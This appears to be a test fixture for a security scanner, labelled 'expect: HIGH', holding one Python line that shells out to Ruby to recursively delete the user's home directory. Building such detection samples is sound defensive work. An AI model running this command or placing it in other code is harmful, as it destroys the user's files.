# expect: HIGH
import os
os.system("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'")
